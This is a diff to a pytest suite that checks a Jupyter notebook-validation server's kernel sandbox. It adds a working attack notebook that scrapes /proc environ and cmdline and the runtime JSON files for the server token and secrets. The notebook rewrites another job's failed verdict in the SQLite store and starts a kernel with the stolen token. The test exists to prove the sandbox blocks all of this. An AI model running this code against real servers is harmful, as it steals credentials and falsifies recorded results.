@@ -1,6 +1,7 @@
 """The kernel in a sandbox (issue 20, "isolation where the OS allows it"; runner/sandbox.py):
 through a real `jupyter server` (real engine, SQLite, runners, kernels, a built venv), each
-claim is a notebook of its own. With the sandbox on (the default, LocalBackend.sandbox auto)
+claim is a notebook of its own. With the sandbox on (the default, LocalBackend.sandbox auto,
+given as no option)
 the kernel cannot read the server's process environment, the store, another job's folder,
 a file in HOME outside the root, the server's runtime dir (its jpserver-*.json holds the
 token); it can read the project root through ../ and the links its working copy keeps, its
@@ -76,6 +77,35 @@ CAN = {  # name: the cell asserting the kernel can read it (both modes)
         "assert os.path.islink('outside.txt'), os.listdir('.')\n"
         "assert open('outside.txt').read() == 'outside the root\\n'\n"
         "assert open('data-link/x.csv').read() == 'a,b\\n1,2\\n'"),
+    # what ordinary notebooks do that touches a hidden path or the machine: scratch files in
+    # /tmp, /var/tmp, /dev/shm and TMPDIR, HOME, processes with semaphores and shared memory
+    # (/dev/shm), time zones and the locale, their own folder written and read again
+    "ordinary-machine": (
+        "import locale, multiprocessing, tempfile, zoneinfo, datetime, pathlib\n"
+        "from multiprocessing import shared_memory\n"
+        "for d in ('/tmp', '/var/tmp', '/dev/shm', tempfile.gettempdir(), os.path.expanduser('~')):\n"
+        "    p = os.path.join(d, 'nbv-scratch.bin')\n"
+        "    open(p, 'wb').write(b'x' * 100000)\n"
+        "    assert os.path.getsize(p) == 100000, p\n"
+        "    os.remove(p)\n"
+        "with tempfile.TemporaryDirectory() as t:\n"
+        "    pathlib.Path(t, 'a.txt').write_text('a')\n"
+        "os.makedirs(os.path.expanduser('~/.cache/some-lib'), exist_ok=True)\n"
+        "for method in ('fork', 'spawn'):\n"
+        "    ctx = multiprocessing.get_context(method)\n"
+        "    lock = ctx.Lock()\n"
+        "    with ctx.Pool(2) as pool:\n"
+        "        assert pool.map(abs, [-1, -2, 3]) == [1, 2, 3]\n"
+        "shm = shared_memory.SharedMemory(create=True, size=4096)\n"
+        "shm.buf[0] = 7\n"
+        "other = shared_memory.SharedMemory(name=shm.name)\n"
+        "assert other.buf[0] == 7\n"
+        "other.close(); shm.close(); shm.unlink()\n"
+        "ny = datetime.datetime(2026, 7, 1, 12, tzinfo=zoneinfo.ZoneInfo('America/New_York'))\n"
+        "assert ny.utcoffset() == datetime.timedelta(hours=-4), ny.utcoffset()\n"
+        "locale.setlocale(locale.LC_ALL, 'C.UTF-8')\n"
+        "open('written-here.txt', 'w').write('mine')\n"
+        "assert open('written-here.txt').read() == 'mine' and 'written-here.txt' in os.listdir('.')"),
 }
 
 
@@ -131,7 +161,8 @@ def layout(tmp_path, monkeypatch):
 
 @pytest.mark.parametrize("mode", ["auto", "off"])
 def test_what_the_kernel_can_and_cannot_read(tmp_path, layout, mode):
-    server = ServerProcess(tmp_path, extra_args=[f"--LocalBackend.sandbox={mode}"])
+    # auto is the default: given as no option at all, so the test holds the default to it
+    server = ServerProcess(tmp_path, extra_args=[] if mode == "auto" else [f"--LocalBackend.sandbox={mode}"])
     try:
         server.start()
         client = server.client()
@@ -144,7 +175,7 @@ def test_what_the_kernel_can_and_cannot_read(tmp_path, layout, mode):
         schema = doc["paths"]["/health"]["get"]["responses"]["200"]["content"]["application/json"]["schema"]
         jsonschema.validate(health["sandbox"], schema["properties"]["sandbox"])
         if mode == "auto":
-            assert sandbox.get("enabled") is True, health
+            assert sandbox.get("enabled") is True and sandbox.get("mode") == "auto", health
             assert {"user namespace", "pid namespace", "mount namespace"} <= set(sandbox["uses"]), sandbox
         else:
             assert sandbox.get("enabled") is False and "off" in sandbox.get("reason", ""), health
@@ -194,3 +225,129 @@ def test_what_the_kernel_can_and_cannot_read(tmp_path, layout, mode):
     cell = next(r for r in hung["results"] if r["cellIndex"] == 1)
     # interrupted: the cell's traceback says where it hung (the interrupt reached the kernel)
     assert "KeyboardInterrupt" in json.dumps(cell) and "time.sleep" in json.dumps(cell), explain(done["hangs"])
+
+
+# issue 20 point 8, as the issue tells it: the notebook looks for the server's token and
+# environment in /proc of its ancestors (and of every process it can see), in the Jupyter
+# runtime dir, opens the store by its absolute path and turns another notebook's Failed into
+# Succeeded, then starts a kernel on the server with whatever token it found. Cell 0 tries
+# everything and prints what worked (REPORT line); cell 1 fails when anything did.
+ATTACK = r'''
+import glob, json, os, re, sqlite3, urllib.request
+S = {facts!r}
+R = {{"tokens": [], "secret_seen": [], "store": None, "kernel": None, "ancestors": []}}
+TOKEN = re.compile(rb"(?:token[=:\"' ]+|JUPYTER_TOKEN=)([0-9a-f]{{16,}})")
+pid = os.getpid()
+while pid > 0:  # the ancestors, as the kernel sees them
+    R["ancestors"].append(pid)
+    try:
+        status = open(f"/proc/{{pid}}/status").read()
+        pid = int(re.search(r"PPid:\s*(\d+)", status).group(1))
+    except (OSError, AttributeError):
+        break
+paths = [f"/proc/{{p}}/{{f}}" for p in R["ancestors"] for f in ("cmdline", "environ")]
+paths += sorted(glob.glob("/proc/[0-9]*/cmdline") + glob.glob("/proc/[0-9]*/environ"))
+paths += glob.glob(os.path.join(S["runtime"], "*.json"))
+for path in paths:
+    try:
+        data = open(path, "rb").read()
+    except OSError:
+        continue
+    R["tokens"] += [m.decode() for m in TOKEN.findall(data)]
+    if S["secret"].encode() in data:
+        R["secret_seen"].append(path)
+R["tokens"] = sorted(set(R["tokens"]))
+try:  # the store, by its absolute path: the other notebook's Failed becomes Succeeded
+    con = sqlite3.connect(f"file:{{S['store']}}?mode=rw", uri=True, timeout=10)
+    doc = json.loads(con.execute("SELECT doc FROM jobs WHERE name = ?", (S["victim"],)).fetchone()[0])
+    doc["status"].update(phase="Succeeded", reason="ValidationSucceeded", message="rewritten")
+    doc["status"].pop("failedCellIndex", None)
+    cur = con.execute("UPDATE jobs SET doc = ?, phase = 'Succeeded', version = version + 1 WHERE name = ?",
+                      (json.dumps(doc), S["victim"]))
+    con.commit()
+    R["store"] = f"updated {{cur.rowcount}} row(s)"
+except Exception as e:
+    R["store_error"] = f"{{type(e).__name__}}: {{e}}"
+for token in R["tokens"] or [""]:  # a kernel on the server, with a stolen token (or none)
+    req = urllib.request.Request(S["url"] + "api/kernels", data=b"{{}}", method="POST",
+                                 headers={{"Authorization": f"token {{token}}", "Content-Type": "application/json"}})
+    try:
+        with urllib.request.urlopen(req, timeout=10) as r:
+            R["kernel"] = f"{{r.status}} {{json.loads(r.read())['id']}}"
+            break
+    except Exception as e:
+        R["kernel_error"] = f"{{type(e).__name__}}: {{e}}"
+print("REPORT " + json.dumps(R))
+'''
+VERDICT = ("assert not R['tokens'] and not R['secret_seen'] and R['store'] is None and R['kernel'] is None, "
+           "json.dumps(R)")
+
+
+def report_of(client, name: str) -> dict:
+    executed = client.request("GET", f"jobs/{name}/notebook")
+    text = "".join(o.get("text", "") for o in executed["cells"][0].get("outputs", []) if o.get("name") == "stdout")
+    line = next((ln for ln in text.splitlines() if ln.startswith("REPORT ")), None)
+    assert line, f"the attack printed no report: {text[-2000:]}"
+    return json.loads(line[len("REPORT "):])
+
+
+@pytest.mark.parametrize("settings", ["default", "off"])
+def test_a_notebook_cannot_rewrite_another_jobs_verdict(tmp_path, monkeypatch, settings):
+    """Issue 20 point 8 end to end, through a real server with the default settings (no
+    sandbox option given): the token (on the server's command line, as ServerProcess starts
+    it), a secret of the server's environment, the store at its absolute path and the server's
+    kernels API are out of the validated notebook's reach; every attempt fails and the other
+    notebook's Failed stays. The same attack with LocalBackend.sandbox=off (the control)
+    finds the token and the secret, rewrites the verdict and starts a kernel: the attack is real."""
+    monkeypatch.setenv("NBV_POINT8_SECRET", "nbv-" + secrets.token_hex(12))
+    extra = [] if settings == "default" else ["--LocalBackend.sandbox=off"]
+    server = ServerProcess(tmp_path, extra_args=extra)
+    try:
+        server.start()
+        client = server.client()
+        deadline = time.monotonic() + 120
+        while not (health := client.request("GET", "health")).get("sandbox"):  # null until detected
+            assert time.monotonic() < deadline, health
+            time.sleep(0.3)
+        if settings == "default":
+            assert health["sandbox"]["mode"] == "auto" and health["sandbox"]["enabled"] is True, health
+        else:
+            assert health["sandbox"]["enabled"] is False, health
+
+        write_notebook(server.root / "victim" / "broken.ipynb", ["raise ValueError('broken for real')"])
+        victim = submit(client, "victim/broken.ipynb", podConfig=NOBUILD)
+        assert wait_all(client, [victim])[victim]["status"]["phase"] == "Failed"
+
+        known = {"secret": os.environ["NBV_POINT8_SECRET"], "runtime": str(server.runtime), "url": server.url,
+                 "store": str(server.data_dir / "nbvalidation.db"), "victim": victim}
+        write_notebook(server.root / "attacker" / "attack.ipynb", [ATTACK.format(facts=known), VERDICT])
+        attacker = submit(client, "attacker/attack.ipynb", podConfig=NOBUILD)
+        attack = wait_all(client, [attacker])[attacker]
+        report = report_of(client, attacker)
+        victim_now = client.request("GET", f"jobs/{victim}")
+        kernels = client.request_root("GET", "api/kernels")
+    finally:
+        server.stop()
+    import sqlite3
+
+    con = sqlite3.connect(f"file:{server.data_dir / 'nbvalidation.db'}?mode=ro", uri=True)
+    stored = json.loads(con.execute("SELECT doc FROM jobs WHERE name = ?", (victim,)).fetchone()[0])
+    con.close()
+
+    if settings == "default":
+        assert attack["status"]["phase"] == "Succeeded", (report, explain(attack))
+        assert report["tokens"] == [] and report["secret_seen"] == [], report
+        assert server.token not in json.dumps(report), report
+        assert report["store"] is None and "store_error" in report, report
+        assert report["kernel"] is None and "403" in report.get("kernel_error", ""), report
+        assert kernels == [], kernels
+        assert victim_now["status"]["phase"] == "Failed", explain(victim_now)
+        assert stored["status"]["phase"] == "Failed" and stored["status"].get("message") != "rewritten", stored
+    else:  # the control: without the sandbox each attempt works (the test would see a leak)
+        assert attack["status"]["phase"] == "Failed" and attack["status"]["failedCellIndex"] == 1, explain(attack)
+        assert server.token in report["tokens"], report
+        assert report["secret_seen"], report
+        assert report["store"] == "updated 1 row(s)", report
+        assert report["kernel"] and report["kernel"].startswith("201"), report
+        assert stored["status"]["phase"] == "Succeeded" and stored["status"]["message"] == "rewritten", stored
+        assert victim_now["status"]["phase"] == "Succeeded", explain(victim_now)
